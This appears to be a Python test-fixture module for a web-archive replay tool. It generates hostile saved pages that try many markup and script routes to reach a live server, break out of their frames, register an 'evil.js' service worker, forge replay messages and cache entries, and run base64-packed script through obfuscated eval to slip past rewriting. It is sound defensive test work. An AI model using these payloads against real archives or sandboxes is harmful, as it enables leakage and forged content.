"""Pages that try to reach the live web, the reading room, or other saved pages.

Each way has a name, and asks a live server for a path of that name, so that what got through can be
told. Those in ``MARKUP`` need no script; ``SCRIPTED`` ones run in a window of which nothing is
overridden (``raw``), with those of the saved page (``real``) and of the frame around it (``up``).
"""

from __future__ import annotations

import base64

from tests.exchanges import page

MARKUP = {
    "img": '<img src="{u}">', "srcset": '<img srcset="{u} 1x">', "data-img": '<img src="{d}">',
    "picture": '<picture><source srcset="{u}"><img></picture>',
    "video": '<video src="{u}" autoplay></video>', "poster": '<video poster="{u}"></video>',
    "track": '<video><track src="{u}" default></video>', "audio": '<audio src="{u}"></audio>',
    "object": '<object data="{u}"></object>', "embed": '<embed src="{u}">',
    "iframe": '<iframe src="{u}"></iframe>', "frame-data": '<iframe src="data:text/html,'
    "<img src='{u}'>\"></iframe>", "srcdoc": "<iframe srcdoc=\"<img src='{u}'>\"></iframe>",
    "srcdoc-refresh": "<iframe srcdoc=\"<meta http-equiv=refresh content='0;url={u}'>\"></iframe>",
    "script": '<script src="{u}"></script>', "module": '<script type="module" src="{u}"></script>',
    "stylesheet": '<link rel="stylesheet" href="{u}">', "icon": '<link rel="icon" href="{u}">',
    "prefetch": '<link rel="prefetch" href="{u}">',
    "prerender": '<link rel="prerender" href="{u}">',
    "preload": '<link rel="preload" as="image" href="{u}">',
    "modulepreload": '<link rel="modulepreload" href="{u}">',
    "preconnect": '<link rel="preconnect" href="{u}">',
    "dns-prefetch": '<link rel="dns-prefetch" href="{u}">',
    "manifest": '<link rel="manifest" href="{u}">',
    "dictionary": '<link rel="compression-dictionary" href="{u}">',
    "css-import": '<style>@import "{u}";</style>',
    "css-url": '<p style="background:url({u})">p</p>',
    "css-escaped": "<style>b{{background:u\\72l('{u}')}}</style><b>b</b>",
    "css-font": "<style>@font-face{{font-family:x;src:url({u})}}i{{font-family:x}}</style><i>i</i>",
    "css-set": "<style>u{{background:image-set('{u}' 1x)}}</style><u>u</u>",
    "css-cursor": "<style>body{{cursor:url({u}),auto}}</style>",
    "css-list": "<style>li{{list-style-image:url({u})}}</style><li>l</li>",
    "svg-image": '<svg><image href="{u}"/></svg>', "svg-use": '<svg><use href="{u}#a"/></svg>',
    "svg-fe": '<svg><filter id="f"><feImage href="{u}"/></filter><rect filter="url(#f)"/></svg>',
    "svg-filter": '<svg><rect width="9" height="9" fill="red" filter="url({u}#a)"/></svg>',
    "background": '<table background="{u}"><tr><td>t</td></tr></table>',
    "input": '<input type="image" src="{u}">', "noscript": '<noscript><img src="{u}"></noscript>',
    "template": '<template shadowrootmode="open"><img src="{u}"></template>',
    "xslt": '<iframe src="/style.xml"></iframe>', "svg-frame": '<iframe src="/frame.svg"></iframe>',
    "speculation": '<script type="speculationrules">{{"prefetch":[{{"urls":["{u}"]}}],'
    '"prerender":[{{"urls":["{u}"]}}]}}</script>',
    "importmap": '<script type="importmap">{{"imports":{{"x":"{u}"}}}}</script>'
    '<script type="module">import "x";</script>',
    "attribution": '<img attributionsrc="{u}">', "fenced": '<fencedframe src="{u}"></fencedframe>',
    "report": '<meta http-equiv="Content-Security-Policy" '
    "content=\"img-src 'none'; report-uri {u}\">",
}  # fmt: skip
SCRIPTED = {
    "fetch": "raw.fetch(u, {mode: 'no-cors'})", "keepalive": "raw.fetch(u, {keepalive: true})",
    "post": "raw.fetch(u, {method: 'POST', mode: 'no-cors', body: 'x'})",
    "xhr": "const x = new raw.XMLHttpRequest(); x.open('GET', u); x.send()",
    "beacon": "raw.navigator.sendBeacon(u, 'x')", "socket": "new raw.WebSocket(ws)",
    "events": "new raw.EventSource(u)", "transport": "new raw.WebTransport(u)",
    "later": "raw.fetchLater(u)", "image": "new raw.Image().src = u", "sound": "new raw.Audio(u)",
    "font": "new raw.FontFace('x', `url(${u})`).load()", "import": "raw.eval(`import('${u}')`)",
    "worker": "new raw.Worker(u)", "shared": "new raw.SharedWorker(u)",
    "worker-blob": "new raw.Worker(blob(`fetch('${u}'); importScripts('${u}')`))",
    "worker-data": "new raw.Worker(`data:text/javascript,fetch('${u}')`)",
    "worker-socket": "new raw.Worker(blob(`new WebSocket('${ws}')`))",
    "worklet": "new raw.AudioContext().audioWorklet.addModule(u)",
    "paint": "raw.CSS.paintWorklet.addModule(u)",
    "service-worker": "up.navigator.serviceWorker.register(u)",
    "service-worker-own": "up.navigator.serviceWorker.register('/raw/SITE/evil.js')",
    "service-worker-replayed": "up.navigator.serviceWorker.register('/w/a/mp_/SITE/evil.js')",
    "write": "raw.document.write(`<img src='${u}'>`)",
    "markup": "set(document.createElement('div'), 'innerHTML', `<img src='${u}'>`)",
    "attribute": "set(document.createElement('iframe'), 'src', u)",
    "link": "set(document.createElement('link'), 'href', u, {rel: 'stylesheet'})",
    "open": "raw.open(u)", "open-up": "up.open(u)", "open-top": "raw.open(u, '_top')",
    "top": "real['to' + 'p'].location = u", "top-replace": "real.parent.parent.location.replace(u)",
    "up-location": "up.location = u", "frame-location": "fresh().location = u",
    "blank": "click({href: u, target: '_blank'})", "click-top": "click({href: u, target: '_top'})",
    "click-up": "click({href: u, target: '_parent'})", "ping": "click({href: '#', ping: u})",
    "download": "click({href: u, download: 'x'})",
    "script-link": "click({href: `javascript:void(new Image().src='${u}')`})",
    "form-top": "send({action: u, target: '_top'})", "form-blank": "send({action: u, target: 'n'})",
    "form-post": "send({action: u, method: 'post', target: 'sent'})",
    "up-fetch": "up.fetch(u, {mode: 'no-cors'})", "up-image": "new up.Image().src = u",
    "up-beacon": "up.navigator.sendBeacon(u)", "up-socket": "new up.WebSocket(ws)",
    "up-worker": "new up.Worker(blob(`fetch('${u}')`))",
    "up-frame": "const f = up.document.createElement('iframe'); f.src = u; "
    "up.document.body.append(f)",
    "up-script": "const s = up.document.createElement('script'); s.textContent = `fetch('${u}')`; "
    "up.document.body.append(s)",
    "up-eval": "up.eval(`fetch('${u}')`)",
    "up-refresh": "const m = up.document.createElement('meta');"
    " m.httpEquiv = 'refresh'; m.content = `0;url=${u}`; up.document.head.append(m)",
    "blob-frame": "const f = document.createElement('iframe'); f.src = page(`<img src='${u}'>`); "
    "document.body.append(f)",
    "identity": "raw.navigator.credentials.get({identity: {providers: [{configURL: u, "
    "clientId: 'x'}]}})",
    "payment": "new raw.PaymentRequest([{supportedMethods: u}], {total: {label: 'x', amount: "
    "{currency: 'EUR', value: '1'}}}).canMakePayment()",
    "storage": "raw.top.localStorage.setItem('x', u)", "opener": "real.top.opener.location = u",
    "history": "real.top.history.pushState({}, '', u)", "name": "real.top.name = u",
    "forged": "real.parent.parent.postMessage({shown: {url: 'javascript:alert(1)', ts: "
    "'20250301100000', title: '<b>forged</b>'}}, '*')",
    "cache": "up.caches.open('x').then(c => Promise.all(['', '20251005120000'].map(ts => c.put("
    "`/w/a/${ts}mp_/SITE/report`, new Response('<h1>forged</h1>', {headers: {'Content-Type': "
    "'text/html'}})))))",
    "collection": "up.navigator.serviceWorker.controller.postMessage({msg_type: 'addColl', "
    "name: 'a', type: 'live', skipExisting: false, file: {sourceUrl: `proxy:${live}/`}, "
    "extraConfig: {prefix: `${live}/`, isLive: true}})",
}  # fmt: skip
_TOOLS = """
const live = "LIVE", raw = self, real = parent, up = parent.parent;
const fresh = () => { const f = document.createElement("iframe"); document.body.append(f);
  return f.contentWindow; };
const blob = text => raw.URL.createObjectURL(new raw.Blob([text], {type: "text/javascript"}));
const page = text => raw.URL.createObjectURL(new raw.Blob([text], {type: "text/html"}));
const set = (node, name, value, more = {}) => {
  const proto = Object.getPrototypeOf(node);
  let at = proto;
  while (at && !Object.getOwnPropertyDescriptor(at, name)) at = Object.getPrototypeOf(at);
  Object.getOwnPropertyDescriptor(at, name).set.call(node, value);
  raw.Node.prototype.appendChild.call(document.body, Object.assign(node, more)); };
const click = values => { const a = raw.document.createElement("a");
  for (const [k, v] of Object.entries(values)) raw.Element.prototype.setAttribute.call(a, k, v);
  document.body.append(a); a.click(); };
const send = values => { const n = document.createElement("iframe"); n.name = "sent";
  const form = raw.document.createElement("form");
  for (const [k, v] of Object.entries(values)) raw.Element.prototype.setAttribute.call(form, k, v);
  document.body.append(n, form); raw.HTMLFormElement.prototype.submit.call(form); };
const done = [];
const attempt = async (name, way) => {
  done.push(name);
  try { await Promise.race([way(`${live}/${name}`, `${live.replace("http", "ws")}/${name}`),
    new Promise(go => setTimeout(go, 300))]); } catch (error) {} };
"""


def markup(live: str, site: str) -> bytes:
    """A page that tries without script."""
    del site
    ways = "".join(
        one.format(u=f"{live}/{name}", d=f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'>"
                   f"<image href='{live}/{name}'/></svg>")
        for name, one in MARKUP.items()
    )  # fmt: skip
    return page("Markup", f"</p></article>{ways}<p>")


def scripted(live: str, site: str) -> bytes:
    """A page that tries by script, then asks its own site for ``/ran``, and tries to leave."""
    ways = "\n".join(
        f"  attempt({name!r}, (u, ws) => {{ {way.replace('SITE', site)} }}),"
        if not way.startswith(("raw.fetch", "up.fetch"))
        else f"  attempt({name!r}, (u, ws) => {way}),"
        for name, way in SCRIPTED.items()
    )
    script = (
        f"{_TOOLS.replace('LIVE', live)}\nPromise.all([\n{ways}\n]).then(async () => {{\n"
        "await real.fetch('/ran?' + done.length);\n"
        f"(0, real.eval)(`self['loca' + 'tion'].href = '{live}/leave'`); }});"
    )
    # Nothing rewrites what is not there to be read, nor overrides what is in a window of its own.
    packed = base64.b64encode(script.encode()).decode()
    begin = (
        "document.body.append(document.createElement('iframe'));"
        f"self['frames'][0]['ev' + 'al'](self['frames'][0]['at' + 'ob']('{packed}'));"
    )
    return page("Scripted", f"</p></article><script>{begin}</script><p>")


def refreshing(live: str, site: str) -> bytes:
    """A page that leads elsewhere."""
    del site
    base = f'<base href="{live}/base/" target="_top">'
    return page("Refreshing", '</p></article><img src="base-img"><p>', head=(
        f'{base}<meta http-equiv="refresh" content="1;url={live}/refresh">'))  # fmt: skip


def style_xml(live: str) -> bytes:
    """XML that is shown by a style sheet of the live web."""
    return (
        f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{live}/xslt"?>'
        f'<!DOCTYPE a [<!ENTITY e SYSTEM "{live}/entity">]><a>&e;</a>'
    ).encode()


def frame_svg(live: str) -> bytes:
    """A drawing with a script."""
    return (
        '<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'' + live + "/svg-load')\">"
        f'<image href="{live}/svg-frame" width="9" height="9"/><script>fetch("{live}/svg-script")'
        "</script></svg>"
    ).encode()
